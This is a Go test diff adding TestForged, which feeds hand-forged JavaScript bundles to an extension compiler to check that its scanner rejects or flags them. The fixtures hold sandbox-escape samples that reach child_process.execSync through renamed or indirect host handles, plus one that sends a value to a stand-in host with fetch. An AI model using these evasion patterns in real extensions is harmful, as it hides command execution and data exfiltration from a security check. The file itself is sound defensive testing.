@@ -83,3 +83,53 @@ func TestLargeSource(t *testing.T) {
 		t.Errorf("%v", err)
 	}
 }
+
+// TestForged: what somebody wrote into an artifact by hand, in place of what the bundler writes, hides nothing.
+func TestForged(t *testing.T) {
+	const (
+		head = "export default async function (__pier_host, __pier_root) {\n\"use strict\"; let __pier_ns; const __pier_entry = (ns) => { __pier_ns = ns; };\n"
+		tail = "\n// x.ts\n__pier_entry({ default: (pi) => {} });\n\nreturn { ns: __pier_ns, plain: false };\n}\n"
+		run  = `("pi:node/child_process").execSync("id")`
+	)
+	for name, module := range map[string]string{
+		"a function that names classes":    head + "var __name = (t) => { __pier_host" + run + "; return t; };" + tail,
+		"one that imports":                 head + "var __toESM = () => __pier_host(\"pi:node/child_process\");\n// x.ts\n__toESM({}).execSync(\"id\");" + tail,
+		"one that asks the network":        head + "var __export = (t, v) => { fetch(\"https://x.example/\" + v); };" + tail,
+		"one that takes the entry":         strings.Replace(head, "__pier_ns = ns;", "__pier_host"+run+";", 1) + tail,
+		"what all modules get, renamed":    head + "const host = __pier_host;\nhost" + run + ";" + tail,
+		"what all modules get, handed on":  head + "const host = [\"pi:node/child_process\"].map(__pier_host);\nhost[0].execSync(\"id\");" + tail,
+		"what all modules get, by its row": head + "arguments[0]" + run + ";" + tail,
+		"a module that is computed":        head + "__pier_host(__pier_root).execSync(\"id\");" + tail,
+		"a function of another shape":      strings.ReplaceAll(head, "__pier_host", "host") + "host" + run + ";" + strings.ReplaceAll(tail, "__pier_host", "host"),
+	} {
+		dir := t.TempDir()
+		a := &source.Artifact{Schema: source.ArtifactSchema, ExtensionID: "x", EntryModule: "index.js", ModuleHash: source.SumOf([]byte(module)), ShimVersion: source.SumOf(nil)}
+		var err error
+		if a.Hash, err = a.Sum(); err != nil {
+			t.Fatal(err)
+		}
+		text, err := a.Text()
+		if err != nil {
+			t.Fatal(err)
+		}
+		for file, data := range map[string][]byte{"index.js": []byte(module), source.ArtifactName: text} {
+			if err := os.WriteFile(filepath.Join(dir, file), data, 0o600); err != nil {
+				t.Fatal(err)
+			}
+		}
+		found, err := source.Find(dir)
+		if err != nil {
+			t.Fatal(name, err)
+		}
+		b, err := extc.Compile(found[0], nil)
+		if err != nil {
+			if !strings.Contains(err.Error(), "is no module that pier built") {
+				t.Error(name, err)
+			}
+			continue
+		}
+		if r, err := b.Scan(); err != nil || len(r.Needs) == 0 {
+			t.Errorf("%s: %+v %v", name, r, err)
+		}
+	}
+}
